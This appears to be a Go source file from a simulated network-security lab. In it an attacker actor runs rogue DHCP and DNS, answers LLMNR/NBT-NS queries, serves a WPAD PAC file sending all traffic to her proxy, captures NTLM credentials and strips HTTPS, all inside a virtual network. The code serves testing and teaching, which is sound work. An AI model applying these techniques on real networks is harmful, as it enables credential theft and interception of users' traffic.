package scenarios

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"strconv"
	"sync"
	"time"

	"github.com/tlslab/tlslab/actors/attacker"
	"github.com/tlslab/tlslab/actors/autodiscover"
	"github.com/tlslab/tlslab/actors/dhcp"
	"github.com/tlslab/tlslab/actors/dns"
	"github.com/tlslab/tlslab/actors/winname"
	"github.com/tlslab/tlslab/actors/wpad"
	"github.com/tlslab/tlslab/lab"
	"github.com/tlslab/tlslab/lab/contoso"
	"github.com/tlslab/tlslab/netsim"
)

// discRewritePort is where mallory's own autodiscover answers the
// plain-HTTP requests her proxy takes over.
const discRewritePort = 8081

// discDHCPRelease bounds how long dns01's DHCP answers are held back for
// mallory's offer to go first (see dhcpRace): her server answers as soon
// as it reads the DISCOVER, so this only matters when she sends nothing.
const discDHCPRelease = 2 * time.Second

// serveHTTP serves h on mallory's host at port, over TLS with certs when
// not nil, until the run's stops. An endpoint (where she takes what the
// attack is after) breaks under the run's sabotage; what only puts her in
// position (a PAC file) does not.
func (r *discoveryRun) serveHTTP(port uint16, certs attacker.CertSource, h http.Handler, endpoint bool) error {
	l, err := r.mallory.Listen("tcp", ":"+strconv.Itoa(int(port)))
	if err != nil {
		return err
	}
	if endpoint {
		l = sabotagedListener(r.env, l)
	}
	if certs != nil {
		l = tls.NewListener(l, &tls.Config{KeyLogWriter: r.env.KeyLog,
			GetCertificate: func(hello *tls.ClientHelloInfo) (*tls.Certificate, error) { return certs.Certificate(hello) }})
	}
	srv := &http.Server{Handler: h, ReadHeaderTimeout: dnsClientTimeout, ErrorLog: discardLog}
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = srv.Serve(l)
	}()
	r.stops = append(r.stops, func() {
		_ = srv.Close()
		<-done
	})
	return nil
}

// sabotagedListener returns l under the run's sabotage: as it is, or
// resetting every connection after its first bytes (proxy-refuses), or
// reading every connection and never answering (proxy-hangs), as the
// family's other endpoints do (sabotagedVictim).
func sabotagedListener(env *lab.Env, l net.Listener) net.Listener {
	switch env.Sabotage() {
	case lab.SabotageProxyRefuses, lab.SabotageProxyHangs:
		return &brokenListener{Listener: l, hang: env.Sabotage() == lab.SabotageProxyHangs}
	}
	return l
}

// brokenListener accepts connections and breaks each: it never hands one
// to its server.
type brokenListener struct {
	net.Listener
	hang bool
}

// Accept serves every connection brokenly until the listener closes,
// then returns the error that closed it.
func (b *brokenListener) Accept() (net.Conn, error) {
	for {
		c, err := b.Listener.Accept()
		if err != nil {
			return nil, err
		}
		go func() {
			defer c.Close()
			if b.hang {
				_, _ = io.Copy(io.Discard, c) // until the client gives up or the World ends
				return
			}
			var one [1]byte
			_, _ = c.Read(one[:])
		}()
	}
}

// startAutodiscover runs mallory's autodiscover service on port, linking
// pool.
func (r *discoveryRun) startAutodiscover(_ context.Context, port uint16, certs attacker.CertSource, pool string) error {
	svc, err := autodiscover.NewService(autodiscover.ServiceConfig{SIPDomain: contoso.Domain,
		Internal: autodiscover.PoolAccess{FQDN: pool, Port: contoso.PortSIPTLS},
		External: autodiscover.PoolAccess{FQDN: pool, Port: contoso.PortSIPTLS}})
	if err != nil {
		return err
	}
	return r.serveHTTP(port, certs, svc, true)
}

// mallorysDHCP is her DHCP server and the DNS server it names.
type mallorysDHCP struct {
	server *dhcp.Server
	dns    *attacker.RogueDNS
	mu     sync.Mutex
	offers []dhcp.Event
}

func (m *mallorysDHCP) offered() []dhcp.Event {
	m.mu.Lock()
	defer m.mu.Unlock()
	return append([]dhcp.Event(nil), m.offers...)
}

// startRogueDHCP runs her DHCP server, offering alice her own address
// with mallory's DNS server, which answers as forgery says (REFUSED for
// anything else). dns01's answers wait for hers (dhcpRace).
func (r *discoveryRun) startRogueDHCP(ctx context.Context, forgery attacker.DNSForgery) error {
	me := discMalloryAddr.Addr()
	m := &mallorysDHCP{dns: attacker.NewRogueDNS(forgery)}
	r.rogue = m
	race := newDHCPRace(r.c.Segment("contoso-lan"), r.c.Host("dns01").NICs()[0], r.env.World)
	r.stops = append(r.stops, race.attach())
	if sabotagedSilent := spooferSilent(r.env); sabotagedSilent {
		return nil
	}
	srv, err := dhcp.NewServer(dhcp.ServerConfig{Host: r.mallory, Subnet: netip.MustParsePrefix("10.0.0.0/24"),
		PoolFirst: contoso.AliceAddr, PoolLast: contoso.AliceAddr, Router: netip.MustParseAddr("10.0.0.1"),
		DNS: []netip.Addr{me}, Domain: contoso.Domain,
		OnEvent: func(e dhcp.Event) {
			if e.Kind == dhcp.Offered {
				m.mu.Lock()
				m.offers = append(m.offers, e)
				m.mu.Unlock()
				race.release()
			}
		}})
	if err != nil {
		return err
	}
	m.server = srv
	pc, err := r.mallory.ListenPacket("udp", fmt.Sprintf(":%d", dhcp.ServerPort))
	if err != nil {
		return err
	}
	dpc, err := r.mallory.ListenPacket("udp", ":53")
	if err != nil {
		pc.Close()
		return err
	}
	sctx, cancel := context.WithCancel(ctx)
	var wg sync.WaitGroup
	wg.Add(2)
	go func() { defer wg.Done(); _ = srv.Serve(sctx, pc) }()
	go func() { defer wg.Done(); _ = dns.Serve(sctx, m.dns, dpc, nil) }()
	r.stops = append(r.stops, func() {
		cancel()
		pc.Close()
		dpc.Close()
		wg.Wait()
	})
	return nil
}

// dhcpRace holds dns01's DHCP answers on contoso-lan until mallory's
// offer has been sent (and passed or been dropped by the switch), or
// discDHCPRelease on the World clock: so her offer reaches alice first
// whenever the switch lets it, which on a real LAN she wins by answering
// from a faster or closer machine.
type dhcpRace struct {
	seg     *netsim.Segment
	trusted *netsim.NIC
	world   *netsim.World

	mu       sync.Mutex
	released bool
	held     [][]byte
}

func newDHCPRace(seg *netsim.Segment, dns01 *netsim.NIC, w *netsim.World) *dhcpRace {
	return &dhcpRace{seg: seg, trusted: dns01, world: w}
}

// attach installs the hold and starts the fallback release; the returned
// func removes it.
func (d *dhcpRace) attach() func() {
	remove := d.seg.AddHook(d)
	t := d.world.Clock().AfterFunc(discDHCPRelease, d.release)
	return func() { t.Stop(); remove() }
}

// HandleFrame holds dns01's DHCP answers until release.
func (d *dhcpRace) HandleFrame(f *netsim.Frame) netsim.HookAction {
	if f.Ingress != d.trusted || !isDHCPServerFrame(f.Data) {
		return netsim.Pass
	}
	d.mu.Lock()
	defer d.mu.Unlock()
	if d.released {
		return netsim.Pass
	}
	d.held = append(d.held, netsim.CloneFrame(f.Data))
	return netsim.Drop
}

// release lets dns01's answers go, the held ones first.
func (d *dhcpRace) release() {
	d.mu.Lock()
	held := d.held
	d.held, d.released = nil, true
	d.mu.Unlock()
	for _, f := range held {
		d.seg.Inject(f)
	}
}

// isDHCPServerFrame reports whether frame is IPv4 UDP from port 67.
func isDHCPServerFrame(frame []byte) bool {
	if len(frame) < 14+20+8 || frame[12] != 0x08 || frame[13] != 0x00 {
		return false
	}
	ip := frame[14:]
	ihl := int(ip[0]&0x0f) * 4
	return ip[9] == 17 && len(ip) >= ihl+8 && int(ip[ihl])<<8|int(ip[ihl+1]) == dhcp.ServerPort
}

// mallorysLink is Responder, and with it her PAC file and proxy.
type mallorysLink struct {
	responder *winname.Responder
	pac       *wpad.PACServer
	proxy     *wpad.Proxy
}

// linkConfig says what she runs besides Responder: a PAC file naming her
// proxy, the proxy demanding NTLM, or the proxy answering plain HTTP
// itself and refusing HTTPS.
type linkConfig struct {
	pac, ntlm, rewrite bool
	// nbnsOnly runs Responder with its LLMNR poisoner off: the PC's LLMNR
	// query goes unanswered and NBT-NS answers.
	nbnsOnly bool
}

// malloryPAC sends every URL to her proxy.
const malloryPAC = `function FindProxyForURL(url, host) {
  return "PROXY 10.0.0.66:8080";
}
`

// startLink runs Responder on her host, and the PAC file and proxy when
// cfg says.
func (r *discoveryRun) startLink(ctx context.Context, cfg linkConfig) error {
	m := &mallorysLink{}
	r.link = m
	if spooferSilent(r.env) {
		return nil
	}
	resp, err := winname.NewResponder(winname.ResponderConfig{Addr: discMalloryAddr.Addr(), Policy: winname.AnswerEveryName})
	if err != nil {
		return err
	}
	m.responder = resp
	llmnr, nbns, err := winname.Listen(r.mallory)
	if err != nil {
		return err
	}
	if cfg.nbnsOnly {
		llmnr.Close()
		llmnr = nil
	}
	sctx, cancel := context.WithCancel(ctx)
	done := make(chan struct{})
	go func() { defer close(done); _ = resp.Serve(sctx, llmnr, nbns) }()
	r.stops = append(r.stops, func() { cancel(); <-done }) // Serve closes its sockets
	if !cfg.pac {
		return nil
	}
	if m.pac, err = wpad.NewPACServer(wpad.PACServerConfig{Script: malloryPAC}); err != nil {
		return err
	}
	if err := r.serveHTTP(80, nil, m.pac, false); err != nil {
		return err
	}
	var dialer wpad.Dialer = r.mallory
	if cfg.rewrite {
		dialer = rewritingDialer{mallory: r.mallory, own: netip.AddrPortFrom(discMalloryAddr.Addr(), discRewritePort)}
	}
	if m.proxy, err = wpad.NewProxy(wpad.ProxyConfig{Dialer: dialer, DialTimeout: dnsClientTimeout}); err != nil {
		return err
	}
	var h http.Handler = m.proxy
	if cfg.ntlm {
		auth, err := r.capture(true)
		if err != nil {
			return err
		}
		h = auth.Wrap(m.proxy)
	}
	// The proxy that demands NTLM is where she takes the credential: an
	// endpoint. The open one only puts her on the path to her own
	// autodiscover answer, which is the endpoint.
	return r.serveHTTP(contoso.ProxyPort, nil, h, cfg.ntlm)
}

// rewritingDialer is mallory's proxy's way upstream: a tunnel to port
// 443 is refused, so the client's HTTPS fails; one to port 80 reaches her
// own autodiscover service instead of the server asked.
type rewritingDialer struct {
	mallory *netsim.Host
	own     netip.AddrPort
}

func (d rewritingDialer) DialContext(ctx context.Context, network, address string) (net.Conn, error) {
	_, port, err := net.SplitHostPort(address)
	if err != nil {
		return nil, err
	}
	switch port {
	case "80":
		return d.mallory.DialContext(ctx, network, d.own.String())
	case "443":
		return nil, errors.New("mallory's proxy refuses HTTPS tunnels")
	}
	return d.mallory.DialContext(ctx, network, address)
}
